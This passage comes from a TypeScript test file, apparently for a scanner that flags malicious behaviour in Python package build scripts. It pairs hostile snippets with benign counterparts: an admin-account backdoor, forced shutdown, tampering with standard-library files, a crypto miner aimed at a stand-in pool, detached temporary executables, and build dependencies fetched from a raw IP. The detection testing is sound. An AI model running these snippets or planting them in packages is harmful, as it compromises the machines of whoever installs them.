      { name: 'the metadata address in the long description', src: py(['from setuptools import setup', "setup(name='x', description='Reads instance data from 169.254.169.254 at run time')"]) },
      { name: 'a cluster detected from its environment', src: py(['import os', "IN_CLUSTER = os.environ.get('KUBERNETES_SERVICE_HOST') is not None"]) },
    ],
  },
  tampering: {
    flag: [
      { name: 'an administrator account added', src: py(['import subprocess', "subprocess.check_output('net user helper P4ss! /add && net localgroup administrators helper /add', shell=True)"]), min: 'critical' },
      { name: 'the machine shut down', src: py(['import os, platform', "os.system('shutdown /s /t 0' if platform.system() == 'Windows' else 'poweroff')"]), min: 'critical' },
      {
        name: 'code appended to a module of the standard library',
        src: py(['import inspect, socket', "f = open(inspect.getsourcefile(socket), 'a')", "f.write(open('pkg/extra.py').read())", 'f.close()']),
        min: 'critical',
      },
      {
        name: 'code appended beside the os module',
        src: py(['import os', "p = os.path.join(os.path.dirname(os.__file__), 'socket.py')", "with open(p, 'a') as f:", "    f.write('print(1)')"]),
        min: 'critical',
      },
      {
        name: 'browser shortcuts rewritten to load an extension',
        src: py([
          'from win32com.client import Dispatch',
          "sc = Dispatch('WScript.Shell').CreateShortCut(r'C:\\Users\\Public\\Desktop\\Browser.lnk')",
          "sc.Arguments = '--load-extension=C:\\ProgramData\\ext'",
          'sc.save()',
        ]),
        min: 'critical',
      },
    ],
    pass: [
      { name: 'a module file read for its version', src: py(['import inspect, mypkg', "text = open(inspect.getsourcefile(mypkg)).read()"]) },
      {
        name: 'a version file written into its own package',
        src: py(['import os, mypkg', "p = os.path.join(os.path.dirname(mypkg.__file__), '_version.py')", "with open(p, 'w') as f:", "    f.write('__version__ = \"1.0\"')"]),
      },
      { name: 'a shutdown handler named in a string', src: py(['from setuptools import setup', "setup(name='x', entry_points={'console_scripts': ['shutdown-helper = x.cli:main']})"]) },
    ],
  },
  'detached-stage': {
    flag: [
      {
        name: 'Python code written to a temporary file and started with pythonw',
        src: py([
          'import os, sys, tempfile',
          'tmp = tempfile.NamedTemporaryFile(delete=False)',
          "tmp.write(b'import time; time.sleep(1)')",
          'tmp.close()',
          "os.system(f\"start {sys.executable.replace('.exe', 'w.exe')} {tmp.name}\")",
        ]),
        min: 'high',
      },
      {
        name: 'a temporary program started with detaching creation flags',
        src: py(['import subprocess, tempfile', "fd, path = tempfile.mkstemp(suffix='.exe')", 'subprocess.Popen([path], creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW)']),
        min: 'high',
      },
    ],
    pass: [
      {
        name: 'a compiler probe through a temporary file',
        src: py(['import subprocess, tempfile', "with tempfile.NamedTemporaryFile('w', suffix='.c') as f:", "    f.write('int main(void){return 0;}')", "    subprocess.check_call(['cc', '-c', f.name])"]),
      },
    ],
  },
  cryptominer: {
    flag: [
      { name: 'a miner started with a pool address', src: py(['import os', "os.system('/tmp/xmrig -o stratum+tcp://pool.example:3333 -u WALLET')"]), min: 'critical' },
      {
        name: "a miner's configuration written out",
        src: py(['import json', "open('/tmp/config.json', 'w').write(json.dumps({'autosave': True}) + '{\"nicehash\": true, \"pools\": []}')"]),
        min: 'critical',
      },
    ],
    pass: [{ name: 'mining named in the description', src: py(['from setuptools import setup', "setup(name='x', description='Tools for xmrig log analysis')"]) }],
  },
  'packed-runtime': {
    flag: [
      { name: 'a PyArmor-encrypted build script', src: py(['from pytransform import pyarmor_runtime', 'pyarmor_runtime()', "__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52')"]), min: 'high' },
    ],
    pass: [{ name: 'a readable build script', src: py(['from setuptools import setup', "setup(name='armored', description='Wraps pyarmor for projects')"]) }],
  },
  'unusual-encoding': {
    flag: [
      {
        name: 'setup.py that Python decodes as utf-7',
        files: { 'setup.py': '# coding: utf-7\nfrom setuptools import setup\nsetup()\n' },
        encodings: { 'setup.py': { codec: 'utf_7', line: 1, unusual: true } },
        min: 'high',
      },
    ],
    pass: [
      {
        name: 'a latin-1 cookie in an old package',
        files: { 'setup.py': '# -*- coding: latin-1 -*-\nfrom setuptools import setup\nsetup(author="Zoë")\n' },
        encodings: { 'setup.py': { codec: 'iso8859_1', line: 1, unusual: false } },
      },
    ],
  },
  'unresolved-load': {
    flag: [
      {
        name: 'a module name decoded before import',
        src: py(['import base64, importlib', "m = importlib.import_module(base64.b64decode(open('k').read()).decode())"]),
        min: 'medium',
      },
      {
        name: 'python -m on a name hidden in base64',
        src: py(['import base64, subprocess, sys', "subprocess.Popen([sys.executable, '-m', base64.b64decode(sys.argv[1]).decode()])"]),
        min: 'medium',
      },
      { name: 'exec of a file named at run time', src: py(['import os', "exec(open(os.environ['HELPER']).read())"]), min: 'medium' },
    ],
    pass: [
      { name: 'importing optional backends by constant names', src: py(['import importlib', "for m in ['json', 'tomllib']:", '    importlib.import_module(m)']) },
      { name: 'exec of the version file', files: { 'setup.py': "exec(open('pkg/version.py').read())\n", 'pkg/version.py': "__version__ = '1.0'\n" } },
    ],
  },
  'build-requires': {
    flag: [
      {
        name: 'a build requirement from a raw URL',
        files: { 'pyproject.toml': '[build-system]\nrequires = ["setuptools", "helper @ https://203.0.113.7/helper-1.0.tar.gz"]\nbuild-backend = "setuptools.build_meta"\n', 'setup.py': 'from setuptools import setup\nsetup()\n' },
        min: 'medium',
      },
      { name: 'setup_requires from git', src: py(['from setuptools import setup', "setup(setup_requires=['helper @ git+https://example.org/helper.git'])"]), min: 'medium' },
      { name: 'dependency_links in setup.cfg', files: { 'setup.cfg': '[options]\nsetup_requires =\n    helper @ https://example.org/h.tar.gz\n', 'setup.py': 'from setuptools import setup\nsetup()\n' }, min: 'medium' },
    ],
    pass: [
      { name: 'ordinary build requirements', files: { 'pyproject.toml': '[build-system]\nrequires = ["setuptools>=61", "wheel", "cython>=3"]\n', 'setup.py': 'from setuptools import setup\nsetup()\n' } },
    ],
  },
};

describe('the rule registry', () => {
  it('has unique ids, a severity and a one-line meaning for every rule', () => {
    const ids = RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const r of RULES) {
      expect(r.id).toMatch(/^[a-z][a-z0-9-]+$/);
      expect(Object.keys(RANK)).toContain(r.severity);
      expect(r.description.length).toBeGreaterThan(20);
      expect(r.description).not.toContain('\n');
    }
  });

  it('has flag and pass samples for every rule', () => {
    expect(Object.keys(CASES).sort()).toEqual(RULES.map((r) => r.id).sort());
    for (const [id, { flag, pass }] of Object.entries(CASES)) {
      expect([id, flag.length > 0]).toEqual([id, true]);
      expect([id, pass.length > 0]).toEqual([id, true]);
    }
  });
});

for (const [id, { flag, pass }] of Object.entries(CASES)) {
  describe(`rule ${id}`, () => {
    const maxOf = RULES.find((r) => r.id === id)?.severity ?? 'critical';

    it.each(flag.map((c) => [c.name, c] as const))('flags %s', (_name, c) => {
      const mine = analyze(c).filter((f) => f.rule === id);
      const best = Math.max(-1, ...mine.map((f) => RANK[f.severity]));
      if (best < RANK[c.min ?? 'medium']) {
        throw new Error(`expected ${id} >= ${c.min}; got ${JSON.stringify(mine.map((f) => [f.severity, f.message]))}`);
      }
      for (const f of mine) {
        expect(RANK[f.severity]).toBeLessThanOrEqual(RANK[maxOf]);
        expect(f.message.length).toBeGreaterThan(10);
        expect(f.evidence.length).toBeGreaterThan(0);
        expect(f.line).toBeGreaterThanOrEqual(1);
      }
    });

    it.each(pass.map((c) => [c.name, c] as const))('leaves alone %s', (_name, c) => {
      const mine = analyze(c).filter((f) => f.rule === id);
      const limit = c.max === undefined ? -1 : RANK[c.max];
      const over = mine.filter((f) => RANK[f.severity] > limit);
      expect(over.map((f) => `${f.severity} ${f.message}`)).toEqual([]);
    });
  });
}

describe('clip', () => {
  it('reads no further than CLIP_READS times what it shows', () => {
    const long = 'ab\x00\u202ecd\ufffc '.repeat(2000);
    for (const max of [10, 80, 300]) {
      expect(clip(long, max)).toBe(clip(long.slice(0, CLIP_READS * max), max));
      expect(clip(long, max).length).toBeLessThanOrEqual(max);
    }
    expect(clip('short', 300)).toBe('short');
  });
});
